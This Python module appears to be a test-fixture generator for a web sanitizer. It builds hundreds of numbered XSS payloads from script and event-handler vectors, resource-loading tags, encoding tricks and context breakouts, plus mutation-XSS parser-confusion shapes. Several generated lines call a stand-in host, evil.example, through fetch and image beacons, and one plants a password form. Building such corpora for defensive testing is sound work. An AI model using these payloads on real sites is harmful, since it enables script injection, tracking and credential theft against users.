"""The words of somebody who wants a page of ours to run, load, cover, submit or leave (A-01, A-02, A-03).

Generated: a way to run something × what it runs × how it is written × what it stands in, and shapes of markup
that mean something else when they are parsed a second time. Each payload has a number, so that whatever happens
names the payload it came from. Nothing here is from a list of somebody else's.
"""

from __future__ import annotations

import html
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import product

EVIL = "https://evil.example"


@dataclass(frozen=True, kw_only=True)
class Payload:
    """One text, and from which class it is."""

    number: int
    kind: str
    text: str


# ── what it would run: JS is the code, URL is where a request would go ───────
_CODES = (
    "RAN({n})",
    "alert({n})",
    "fetch('//evil.example/{n}')",
    "top.location='//evil.example/{n}'",
    "new Image().src='//evil.example/{n}'",
)

#: Elements that run something by themselves.
_RUNNING = (
    "<script>JS</script>",
    "<script src=URL></script>",
    "<script type=module>import 'URL'</script>",
    '<script type=importmap>{"imports":{"x":"URL"}}</script><script type=module>import \'x\'</script>',
    '<script type=speculationrules>{"prerender":[{"source":"list","urls":["URL"]}]}</script>',
    '<img src=x onerror="JS">',
    '<svg onload="JS">',
    "<svg><script>JS</script></svg>",
    "<svg><script href=URL></script></svg>",
    '<svg><animate onbegin="JS" attributeName=x dur=1s>',
    '<svg><set attributeName=href to="javascript:JS"></svg>',
    '<svg><a><animate attributeName=href values="javascript:JS"/><text x=9 y=9>x</text></a></svg>',
    '<body onload="JS">',
    '<body onpageshow="JS">',
    '<iframe onload="JS"></iframe>',
    '<iframe src="javascript:JS"></iframe>',
    '<iframe srcdoc="<script>parent.JS</script>"></iframe>',
    '<iframe src="data:text/html,<script>parent.JS</script>"></iframe>',
    '<object data="javascript:JS"></object>',
    '<object data="data:text/html,<script>JS</script>" type="text/html"></object>',
    '<embed src="javascript:JS">',
    '<details open ontoggle="JS">x</details>',
    '<input autofocus onfocus="JS">',
    '<select autofocus onfocus="JS"></select>',
    '<textarea autofocus onfocus="JS"></textarea>',
    '<button autofocus onfocus="JS">x</button>',
    '<p tabindex=1 autofocus onfocus="JS">x</p>',
    '<a href=x autofocus onfocus="JS">x</a>',
    '<video onerror="JS"><source src=x></video>',
    '<audio src=x onerror="JS">',
    '<marquee onstart="JS">x</marquee>',
    '<p style="animation:x" onanimationstart="JS">x</p><style>@keyframes x{}</style>',
    '<p style="content-visibility:auto" oncontentvisibilityautostatechange="JS">x</p>',
    '<meta http-equiv=refresh content="0;url=javascript:JS">',
    '<link rel=stylesheet href=x onerror="JS">',
    '<math><mtext><img src=x onerror="JS"></mtext></math>',
    '<x-y is=script onclick="JS" autofocus tabindex=1 onfocus="JS">x</x-y>',
    '<div><template shadowrootmode=open><img src=x onerror="JS"></template></div>',
)
#: Elements that wait for a hand: a click, a move, a form sent.
_WAITING = (
    '<a href="javascript:JS">x</a>',
    '<a href="vbscript:JS">x</a>',
    '<a href="data:text/html,<script>JS</script>">x</a>',
    '<a href="&#x6a;avascript&colon;JS">x</a>',
    '<a href=" \tjava\nscript:JS">x</a>',
    '<a href="x" ping="URL">x</a>',
    '<a href="//evil.example" target=_top>x</a>',
    '<svg><a xlink:href="javascript:JS"><text>x</text></a></svg>',
    '<math><maction actiontype="statusline#URL" xlink:href="javascript:JS">x</maction></math>',
    '<form action="javascript:JS"><button>x</button></form>',
    "<form action=URL><input name=password type=password><button>x</button></form>",
    '<button form=x formaction="javascript:JS">x</button>',
    '<p onmouseover="JS" style="position:fixed;inset:0;z-index:99">x</p>',
    '<p oncopy="JS" onclick="JS" onwheel="JS" onpointerrawupdate="JS">x</p>',
    '<button popovertarget=q>x</button><p popover id=q onbeforetoggle="JS">x</p>',
    '<map name=m><area shape=default href="javascript:JS"></map><img usemap=#m src=x>',
)
#: Elements that send a request, which tells that somebody reads, or lead away.
_LOADING = (
    "<img src=URL>",
    '<img srcset="URL 1x">',
    "<picture><source srcset=URL><img src=x></picture>",
    "<video poster=URL></video>",
    "<video src=URL autoplay></video>",
    "<audio src=URL autoplay></audio>",
    "<video><track src=URL default></video>",
    "<input type=image src=URL>",
    "<iframe src=URL></iframe>",
    "<object data=URL></object>",
    "<embed src=URL>",
    "<applet code=URL></applet>",
    "<link rel=stylesheet href=URL>",
    "<link rel=prefetch href=URL>",
    "<link rel=preload as=image href=URL>",
    "<link rel=modulepreload href=URL>",
    "<link rel=icon href=URL>",
    "<link rel=manifest href=URL>",
    "<style>@import 'URL';</style>",
    "<style>*{background:url(URL)}</style>",
    "<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>",
    '<p style="background:url(URL)">x</p>',
    '<p style="list-style:url(URL);display:list-item">x</p>',
    '<p style="cursor:image-set(url(URL) 1x)">x</p>',
    "<table background=URL><tr><td background=URL>x</td></tr></table>",
    "<body background=URL>",
    "<svg><image href=URL /></svg>",
    '<svg><use href="URL#x"/></svg>',
    "<svg><filter id=f><feImage href=URL /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
    '<svg><style>@import "URL";</style></svg>',
    '<meta http-equiv=refresh content="0;url=URL">',
    '<meta http-equiv="Content-Security-Policy" content="report-uri URL">',
    "<base href=URL/><img src=x><a href=x>x</a>",
    "<frameset><frame src=URL></frameset>",
    "<portal src=URL></portal>",
    "<fencedframe src=URL></fencedframe>",
)
_ALL = _RUNNING + _WAITING + _LOADING

# ── how it is written ────────────────────────────────────────────────────────
_WRITTEN: tuple[tuple[str, Callable[[str], str]], ...] = (
    ("shouted", lambda t: "".join(c.upper() if i % 2 else c for i, c in enumerate(t)) if "{" not in t else t.upper()),
    ("slashed", lambda t: t.replace(" ", "/", 1)),
    ("lines", lambda t: t.replace(" ", "\n", 1).replace("=", "\n=\t", 1)),
    ("unclosed", lambda t: t.rstrip(">")),
    ("entities", lambda t: t.replace("JS", "J&S").replace("URL", "U&RL")),
    ("escaped once", lambda t: html.escape(t)),
    ("escaped twice", lambda t: html.escape(html.escape(t))),
    ("nested", lambda t: t.replace("<", "<<b>", 1).replace("script", "scr<script>ipt")),
    ("wide", lambda t: t.replace("<", "\uff1c").replace(">", "\uff1e")),
    ("utf-7", lambda t: t.replace("<", "+ADw-").replace(">", "+AD4-")),
    ("per cent", lambda t: t.replace("<", "%3C").replace(">", "%3E")),
    ("unicode", lambda t: t.replace("<", "\\u003c").replace(">", "\\x3e")),
    ("turned", lambda t: f"\u202e{t}\u2066"),
)
# ── what it stands in: whatever a page might have put around it ──────────────
_AROUND = (
    ("attribute", '"> {}'),
    ("attribute, single", "'> {}"),
    ("attribute, bare", "x {}"),
    ("textarea", "</textarea>{}"),
    ("title", "</title>{}"),
    ("style", "</style>{}"),
    ("script", "</script>{}"),
    ("select", "</option></select>{}"),
    ("comment", "-->{}"),
    ("cdata", "]]>{}"),
    ("noscript", "</noscript>{}"),
    ("article", "</p></div></article></main>{}"),
    ("template", "{{% verbatim %}}{}{{% endverbatim %}}"),
)

# ── what changes its meaning when it is parsed again ─────────────────────────
_ROOTS = {
    "svg": ("desc", "title", "foreignObject"),
    "math": ("mtext", "mi", "annotation-xml encoding=text/html"),
}
_RAW = ("style", "title", "textarea", "xmp", "noembed", "noframes", "noscript", "iframe", "script", "plaintext")
_HURTS = '<img src=x onerror="JS">'
_HAND_MADE = (
    f"<!--><{_HURTS[1:]}-->",
    f"<!--<img src='-->{_HURTS}'>",
    f"<![CDATA[><{_HURTS[1:]}]]>",
    f"<?x {_HURTS}?>",
    f"</{_HURTS[1:]}",
    f"<p title='</p>{_HURTS}'>x</p>",
    f"<table><td><style><p title='</style>{_HURTS}'></style></td></table>",
    f"<table><caption><svg><td><style>{_HURTS}</style></td></svg></caption></table>",
    f"<form><math><mtext></form><form><mglyph><style></math>{_HURTS}",
    f"<select><option><style></option></select>{_HURTS}</style>",
    f"<select><keygen><svg><style>{_HURTS}</style></svg></select>",
    f"<p><svg><p><style><a title='</style>{_HURTS}'>",
    f"<a><table><a>{_HURTS}</a></table></a>",
    f"<b><p><b><p><b><p>{_HURTS}</b>",
    f"<li><table><li>{_HURTS}</table>",
    f"<ruby><rtc><svg><title>{_HURTS}</title></svg></rtc></ruby>",
    f"<button><p><button>{_HURTS}</button></p></button>",
    f"<dl><dt><svg></dt><style>{_HURTS}</style></dl>",
    f"<p id=\"<style><!--\"></p><style>-->{_HURTS}</style>",
    f"<math><annotation-xml><svg><title>{_HURTS}</title></svg></annotation-xml></math>",
    f"<svg><![CDATA[><img src=']]>{_HURTS}'>]]></svg>",
    f"<template><svg><template>{_HURTS}</template></svg></template>",
    f"<frameset><noframes></frameset>{_HURTS}</noframes>",
    f"<html><head><noscript><p title='</noscript>{_HURTS}'></noscript></head></html>",
)  # fmt: skip


def _mutating() -> Iterator[tuple[str, str]]:
    for (root, inner), raw in product(((r, i) for r, many in _ROOTS.items() for i in many), _RAW):
        name = inner.split()[0]
        yield (
            f"{root} {name} {raw}",
            f"<{root}><{inner}><{raw}><p title='</{raw}></{name}></{root}>{_HURTS}'></{raw}></{name}></{root}>",
        )
    yield from (("by hand", text) for text in _HAND_MADE)


def _templates() -> Iterator[tuple[str, str]]:
    yield from (("plain", text) for text in _ALL)
    for number, text in enumerate(_ALL):
        # Each way of running meets four ways of writing and two places to stand, other ones each time.
        for step in range(4):
            how, write = _WRITTEN[(number + 3 * step) % len(_WRITTEN)]
            yield how, write(text)
        for step in range(2):
            place, around = _AROUND[(number + 5 * step) % len(_AROUND)]
            yield place, around.format(text)
    yield from _mutating()


def _corpus() -> Iterator[Payload]:
    seen: set[str] = set()
    for kind, template in _templates():
        if template in seen:
            continue
        seen.add(template)
        number = len(seen)
        code, url = _CODES[number % len(_CODES)].format(n=number), f"{EVIL}/{number}"
        text = template.replace("J&S", _as_references(code)).replace("U&RL", _as_references(url))
        yield Payload(number=number, kind=kind, text=text.replace("JS", code).replace("URL", url))


def _as_references(text: str) -> str:
    """Every sign as a reference, decimal and hexadecimal in turn."""
    return "".join(f"&#{ord(sign)};" if place % 2 else f"&#x{ord(sign):x};" for place, sign in enumerate(text))


PAYLOADS: tuple[Payload, ...] = tuple(_corpus())
